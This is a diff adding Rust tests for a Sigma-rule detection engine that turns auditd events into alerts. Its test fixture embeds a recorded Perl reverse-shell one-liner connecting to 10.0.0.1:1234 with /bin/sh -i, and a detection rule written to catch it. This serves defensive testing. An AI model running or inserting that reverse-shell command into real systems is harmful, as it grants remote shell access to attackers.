@@ -1,0 +1,278 @@
+//! From a line to its alerts, by the public interface alone.
+
+use std::sync::Arc;
+
+use detect::{Alert, Detector, Line, Plan, Source};
+use event::{Fault, Origin, ProcessCache, Profile};
+use sigma::SourceFile;
+
+/// A reverse shell in Perl, started by a process that is labelled `weblogic`; it carries no `success` and no `exe`.
+const SEED: &str = r#"{"ID":"1626611363.720:348501","SYSCALL":{"PPID":{"EVENT_ID":"1626607554.859:32454","comm":"sh","exe":"/bin/sh"},"LABELS":["weblogic"]},"EXECVE":{"argc":3,"ARGV":["perl","-e","use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};"]}}"#;
+
+const PERL: &str = "
+title: Perl opens a socket
+id: 5a4c1c43-3a6f-4a0e-8b6b-1f4f2ed5a001
+status: test
+level: high
+author: Pythia
+description: A one-line script that connects somewhere.
+references: [https://example.org/perl]
+tags: [attack.execution, attack.t1059.006, attack.command_and_control, attack.g0016]
+fields: [CommandLine, ParentImage]
+falsepositives: [Administrators]
+team: {name: blue, priority: 1}
+logsource: {product: linux, category: process_creation}
+detection:
+  socket:
+    CommandLine|contains: 'use Socket'
+  parent:
+    ParentImage|endswith: '/sh'
+  known:
+    CommandLine|contains: backup
+  condition: socket and parent and not known
+";
+
+fn detector(rules: &[&str]) -> Detector {
+    let files: Vec<SourceFile> = rules
+        .iter()
+        .enumerate()
+        .map(|(number, text)| SourceFile {
+            name: format!("{number}.yml").into(),
+            text: (*text).into(),
+        })
+        .collect();
+    let loaded = sigma::load(&files);
+    assert!(loaded.diagnostics.is_empty(), "{:#?}", loaded.diagnostics);
+    let compiled = Plan::compile(loaded.rules);
+    assert!(
+        compiled.not_running.is_empty(),
+        "{:#?}",
+        compiled.not_running
+    );
+    Detector::new(Arc::new(compiled.plan), Arc::new(Profile::laurel()))
+}
+
+fn cache() -> ProcessCache {
+    ProcessCache::new(1 << 20, 3_600_000)
+}
+
+fn file(text: &str, number: u64) -> Line<'_> {
+    Line {
+        bytes: text.as_bytes(),
+        origin: Origin::default(),
+        source: Source::File {
+            file: "seed.jsonl",
+            line: number,
+        },
+    }
+}
+
+fn run(detector: &mut Detector, line: &Line<'_>) -> Result<Vec<Alert>, Fault> {
+    let mut alerts = Vec::new();
+    detector
+        .run(line, &mut cache(), &mut alerts)
+        .map(|()| alerts)
+}
+
+fn json(alert: &Alert) -> serde_json::Value {
+    serde_json::from_str(&alert.to_json()).unwrap()
+}
+
+#[test]
+fn the_alert_shows_argument_parent_label_and_raw_line() {
+    let alerts = run(&mut detector(&[PERL]), &file(SEED, 7)).unwrap();
+    let [alert] = &alerts[..] else {
+        panic!("one alert, not {}", alerts.len())
+    };
+    let alert = json(alert);
+    assert_eq!(alert["time"], "2021-07-18T12:29:23.720Z");
+    assert_eq!(alert["level"], "high");
+    assert_eq!(alert["event"], SEED);
+    assert_eq!(
+        alert["source"],
+        serde_json::json!({"file": "seed.jsonl", "line": 7})
+    );
+    assert_eq!(
+        alert["asset"],
+        serde_json::json!({"resolved": false, "state": "unknown"})
+    );
+    assert_eq!(alert["process"]["parent"]["exe"], "/bin/sh");
+    assert_eq!(alert["process"]["labels"], serde_json::json!(["weblogic"]));
+    let view = &alert["why"][0];
+    assert_eq!(view["view"], "process_creation");
+    assert_eq!(view["selections"][0]["name"], "socket");
+    let found = &view["selections"][0]["matches"][0];
+    assert_eq!(
+        (found["field"].as_str(), found["path"].as_str()),
+        (Some("CommandLine"), Some("EXECVE.ARGV[2]"))
+    );
+    assert_eq!(found["matcher"], "contains 'use Socket'");
+    assert!(
+        found["value"]
+            .as_str()
+            .unwrap()
+            .starts_with("perl -e use Socket;")
+    );
+    let parent = &view["selections"][1]["matches"][0];
+    assert_eq!(
+        (parent["path"].as_str(), parent["value"].as_str()),
+        (Some("SYSCALL.PPID.exe"), Some("/bin/sh"))
+    );
+    assert_eq!(view["selections"].as_array().unwrap().len(), 2);
+}
+
+#[test]
+fn no_attribute_of_the_rule_is_lost_on_the_way_to_the_alert() {
+    let alerts = run(&mut detector(&[PERL]), &file(SEED, 1)).unwrap();
+    let rule = &json(&alerts[0])["rule"];
+    for (name, value) in [
+        ("id", "5a4c1c43-3a6f-4a0e-8b6b-1f4f2ed5a001"),
+        ("title", "Perl opens a socket"),
+        ("status", "test"),
+        ("level", "high"),
+        ("author", "Pythia"),
+        ("description", "A one-line script that connects somewhere."),
+    ] {
+        assert_eq!(rule[name], value, "{name}");
+    }
+    assert_eq!(
+        rule["references"],
+        serde_json::json!(["https://example.org/perl"])
+    );
+    assert_eq!(
+        rule["falsepositives"],
+        serde_json::json!(["Administrators"])
+    );
+    assert_eq!(rule["tags"].as_array().unwrap().len(), 4);
+    let attack = serde_json::json!({"tactics": ["execution", "command-and-control"], "techniques": ["T1059.006"]});
+    assert_eq!(rule["attack"], attack);
+    assert_eq!(
+        rule["custom"],
+        serde_json::json!({"team": {"name": "blue", "priority": 1}})
+    );
+    assert_eq!(
+        rule["fields"]["ParentImage"],
+        serde_json::json!(["/bin/sh"])
+    );
+}
+
+#[test]
+fn the_alert_id_depends_on_rule_host_and_event_alone() {
+    let mut detector = detector(&[PERL]);
+    let id =
+        |detector: &mut Detector, line: &Line<'_>| run(detector, line).unwrap()[0].alert_id.clone();
+    let first = id(&mut detector, &file(SEED, 1));
+    assert_eq!(id(&mut detector, &file(SEED, 2)), first);
+    let kafka = Line {
+        source: Source::Kafka {
+            topic: "laurel",
+            partition: 3,
+            offset: 9,
+        },
+        ..file(SEED, 0)
+    };
+    assert_eq!(id(&mut detector, &kafka), first);
+    // The same event in a shipper's envelope.
+    let message = serde_json::json!({ "message": SEED }).to_string();
+    assert_eq!(id(&mut detector, &file(&message, 1)), first);
+    let of_host = Line {
+        origin: Origin {
+            host: Some(b"web-01"),
+            ..Origin::default()
+        },
+        ..file(SEED, 1)
+    };
+    assert_ne!(id(&mut detector, &of_host), first);
+    assert_ne!(
+        id(&mut detector, &file(&SEED.replace("1234", "1235"), 1)),
+        first
+    );
+    // A new version of the rule is the same rule.
+    let mut changed = self::detector(&[&PERL.replace("level: high", "level: low")]);
+    assert_eq!(id(&mut changed, &file(SEED, 1)), first);
+}
+
+#[test]
+fn an_event_gives_at_most_64_alerts_the_most_severe_and_the_last_says_so() {
+    let rules: Vec<String> = (0..70)
+        .map(|number| {
+            let level = if number < 69 { "low" } else { "critical" };
+            format!(
+                "title: Rule {number}\nid: r{number}\nlevel: {level}\nlogsource: {{product: linux, category: process_creation}}\n\
+                 detection: {{selection: {{CommandLine|contains: perl}}, condition: selection}}\n"
+            )
+        })
+        .collect();
+    let mut detector = detector(&rules.iter().map(String::as_str).collect::<Vec<_>>());
+    let alerts = run(&mut detector, &file(SEED, 1)).unwrap();
+    assert_eq!(alerts.len(), 64);
+    assert_eq!(alerts[0].rule_key(), "r69");
+    assert!(
+        alerts[..63]
+            .iter()
+            .all(|alert| alert.alerts_left_out.is_none())
+    );
+    assert_eq!(alerts[63].alerts_left_out, Some(6));
+    let counts = detector.take_counts();
+    assert_eq!(counts.matches.len(), 70);
+    assert_eq!(
+        counts
+            .alerts_dropped
+            .iter()
+            .map(|(_, count)| count)
+            .sum::<u64>(),
+        6
+    );
+    assert!(detector.take_counts().matches.is_empty());
+}
+
+#[test]
+fn one_alert_tells_of_all_views_that_matched() {
+    let rule = "
+title: Temporary file
+id: tmp
+logsource: {product: linux, service: auditd}
+detection:
+  selection: {type: PATH, name|startswith: /tmp/}
+  condition: selection
+";
+    let event = r#"{"ID":"1700000000.123:1","PATH":[{"item":0,"name":"/tmp/a"},{"item":1,"name":"/etc/b"},{"item":2,"name":"/tmp/c"}]}"#;
+    let alerts = run(&mut detector(&[rule]), &file(event, 1)).unwrap();
+    assert_eq!(alerts.len(), 1);
+    let records: Vec<_> = alerts[0]
+        .why
+        .iter()
+        .map(|view| view.record.as_deref())
+        .collect();
+    assert_eq!(records, [Some("PATH[0]"), Some("PATH[2]")]);
+    let paths: Vec<_> = alerts[0]
+        .why
+        .iter()
+        .map(|view| view.selections[0].matches[1].path.as_deref())
+        .collect();
+    assert_eq!(paths, [Some("PATH[0].name"), Some("PATH[2].name")]);
+    assert_eq!(alerts[0].level, "medium");
+}
+
+#[test]
+fn bytes_that_are_no_utf8_are_shown_byte_by_byte() {
+    let event =
+        r#"{"ID":"1700000000.123:1","EXECVE":{"argc":2,"ARGV":["perl","use Socket %ff%00x"]}}"#;
+    let rule = PERL.replace(
+        "socket and parent and not known",
+        "socket and not known and not parent",
+    );
+    let alerts = run(&mut detector(&[&rule]), &file(event, 1)).unwrap();
+    let value = alerts[0].why[0].selections[0].matches[0].value.as_deref();
+    assert_eq!(value, Some("perl use Socket \\xff\0x"));
+    assert_eq!(alerts[0].main_value(), value);
+}
+
+#[test]
+fn a_line_that_is_no_event_is_a_fault_and_gives_no_alert() {
+    let mut detector = detector(&[PERL]);
+    let cut = SEED.get(..200).unwrap();
+    assert_eq!(run(&mut detector, &file(cut, 1)), Err(Fault::Truncated));
+    assert_eq!(run(&mut detector, &file("{}", 1)), Err(Fault::NoEvent));
+    assert!(detector.take_counts().matches.is_empty());
+}
